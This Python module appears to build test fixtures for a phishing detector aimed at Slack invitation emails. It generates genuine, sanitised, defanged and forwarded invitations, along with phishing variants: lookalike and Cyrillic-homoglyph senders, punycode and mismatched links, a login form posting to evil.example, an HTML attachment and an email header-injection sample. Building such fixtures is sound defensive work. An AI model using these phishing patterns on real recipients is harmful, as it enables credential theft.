"""A corpus of invitation mails, built in code: genuine as Slack sends them, sanitised copies,
forwarded ones, every phishing pattern, and hostile files."""

from __future__ import annotations

from email.message import EmailMessage
from email.mime.multipart import MIMEMultipart
from email.mime.text import MIMEText

TEAM = "kyoso-pf"
JOIN = f"https://join.slack.com/t/{TEAM}/invite/zt-2abcDEF123-xYz0Ol1I?x=x-p123"
AUTH_PASS = ("mx.city.example.lg.jp; dkim=pass header.i=@slack.com header.s=s4xolb5s7t; "
             "dkim=pass header.i=@amazonses.com; spf=pass smtp.mailfrom=0100@mail.slack.com; "
             "dmarc=pass (p=REJECT sp=REJECT dis=NONE) header.from=slack.com")
AUTH_FAIL = ("mx.city.example.lg.jp; dkim=fail header.i=@slack.com; "
             "dmarc=fail (p=REJECT) header.from=slack.com")
TEXT = f"""Join your team on Slack
山田 花子 (hanako@digital.go.jp) has invited you to use Slack with them, in a workspace called
デジタル改革共創プラットフォーム.

Workspace name: デジタル改革共創プラットフォーム
{TEAM}.slack.com

Join Now [{JOIN}]
"""
HTML = f"""<html><body><h1>Join your team on Slack</h1>
<p>山田 花子 has invited you to use Slack with them.</p>
<a class="button_link plum" href="{JOIN}">Join Now</a>
<img src="https://a.slack-edge.com/img/slack_logo_240.png">
<a href="https://slack.com/legal">Legal</a> <a href="https://slackhq.com">slackhq.com</a>
</body></html>"""


def invitation(*, sender="Slack <feedback@slack.com>", reply_to="no-reply@slack.com",
               auth: str | None = AUTH_PASS, html: str | None = HTML, text: str | None = TEXT,
               subject="山田 花子 has invited you to work with them in Slack",
               charset="utf-8", extra_headers=(), transfer=None) -> bytes:
    """A Slack invitation as multipart/alternative (or one part when html or text is None)."""
    from email import charset as charsets

    encoding = charsets.Charset(charset)
    if transfer:
        encoding.body_encoding = charsets.QP if transfer == "qp" else charsets.BASE64
    parts = []
    if text is not None:
        parts.append(MIMEText(text, "plain", encoding))
    if html is not None:
        parts.append(MIMEText(html, "html", encoding))
    if len(parts) == 1:
        message = parts[0]
    else:
        message = MIMEMultipart("alternative")
        for part in parts:
            message.attach(part)
    if auth:
        message["Authentication-Results"] = auth
    message["From"] = sender
    if reply_to:
        message["Reply-To"] = reply_to
    message["To"] = "taro@city.hakodate.lg.jp"
    message["Subject"] = subject
    message["Date"] = "Mon, 30 Nov 2026 10:15:00 +0900"
    message["Message-ID"] = "<01000175b15d52f3-97f1-000000@email.amazonses.com>"
    message["X-Slack-Email-Template"] = "welcome_email_invite"
    for name, value in extra_headers:
        message[name] = value
    return message.as_bytes()


def sanitized() -> bytes:
    """What a 無害化 gateway leaves: text only, URLs removed, a notice on top."""
    body = ("【このメールは無害化されています。HTMLをテキスト化し、URLを削除しました】\n"
            + TEXT.replace(JOIN, "(URL削除)"))
    return invitation(html=None, text=body)


def defanged() -> bytes:
    body = TEXT.replace(JOIN, JOIN.replace("https", "hxxps").replace("slack.com", "slack[.]com"))
    return invitation(html=None, text="【無害化済み】\n" + body)


def forwarded_as_attachment() -> bytes:
    outer = EmailMessage()
    outer["From"] = "Hanako Jinji <jinji@city.hakodate.lg.jp>"
    outer["To"] = "taro@city.hakodate.lg.jp"
    outer["Subject"] = "Fwd: 山田 花子 has invited you to work with them in Slack"
    outer["Date"] = "Mon, 30 Nov 2026 11:00:00 +0900"
    outer.set_content("転送します。")
    from email import message_from_bytes

    outer.add_attachment(message_from_bytes(invitation()))
    return outer.as_bytes()


def forwarded_inline() -> bytes:
    body = ("転送します。\n\n---------- Forwarded message ---------\n"
            "From: Slack <feedback@slack.com>\nSubject: invitation\n\n" + TEXT)
    return invitation(sender="Hanako Jinji <jinji@city.hakodate.lg.jp>", reply_to=None, auth=None,
                      html=None, text=body, subject="Fwd: you were invited to Slack")


def phishing(kind: str) -> bytes:
    """One mail per red flag."""
    evil = f"https://join.slack.com.evil.example/t/{TEAM}/invite/x"
    cases = {
        "lookalike_sender": dict(sender="Slack <feedback@slack-invite.com>"),
        "display_name": dict(sender="Slack <noreply@mail-notify.example>"),
        "reply_to": dict(reply_to="help@slack-support.example"),
        "link_mismatch": dict(html=HTML.replace(
            f'href="{JOIN}">Join Now', f'href="https://evil.example/login">{JOIN}')),
        "outside_link": dict(html=HTML.replace(JOIN, evil), text=TEXT.replace(JOIN, evil)),
        "punycode": dict(html=HTML.replace("https://slackhq.com", "https://xn--slck-5qa.com")),
        "auth_fail": dict(auth=AUTH_FAIL),
        "form": dict(html=HTML.replace("</body>", "<form action='https://evil.example'>"
                                       "<input name=p></form></body>")),
        "http_link": dict(html=HTML.replace(JOIN, JOIN.replace("https", "http")),
                          text=TEXT.replace(JOIN, JOIN.replace("https", "http"))),
        "cyrillic_sender": dict(sender="Slack <feedback@slасk.com>"),
    }
    return invitation(**cases[kind])


def with_attachment() -> bytes:
    message = MIMEMultipart("mixed")
    alternative = MIMEMultipart("alternative")
    alternative.attach(MIMEText(TEXT, "plain", "utf-8"))
    message.attach(alternative)
    attachment = MIMEText("<html>login</html>", "html", "utf-8")
    attachment.add_header("Content-Disposition", "attachment", filename="invoice.html")
    message.attach(attachment)
    message["From"] = "Slack <feedback@slack.com>"
    message["Subject"] = "You have been invited to Slack"
    message["Date"] = "Mon, 30 Nov 2026 10:15:00 +0900"
    return message.as_bytes()


def other_slack_mail() -> bytes:
    return invitation(subject="デジタル改革共創プラットフォーム on Slack: New Account Details",
                      html=None, text="Welcome! Your account details. https://slack.com/help",
                      extra_headers=(), auth=AUTH_PASS).replace(
        b"welcome_email_invite", b"new_account_details")


def unrelated() -> bytes:
    message = EmailMessage()
    message["From"] = "総務課 <soumu@city.hakodate.lg.jp>"
    message["Subject"] = "会議のお知らせ"
    message["Date"] = "Mon, 30 Nov 2026 10:15:00 +0900"
    message.set_content("明日の会議は10時からです。")
    return message.as_bytes()


def nested_multiparts(depth: int) -> bytes:
    head = b"From: Slack <feedback@slack.com>\r\nSubject: x\r\n"
    parts = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (i, i)
                     for i in range(depth))
    return head + parts + b"Content-Type: text/plain\r\n\r\nhi\r\n"


def header_injection() -> bytes:
    return (b"From: Slack <feedback@slack.com>\r\nFrom: Attacker <x@evil.example>\r\n"
            b"Subject: invited you\r\n =?utf-8?q?Bcc=3A_all=0D=0A?=\r\nDate: Mon, 30 Nov 2026 "
            b"10:15:00 +0900\r\n\r\nJoin Now " + JOIN.encode() + b"\r\n")
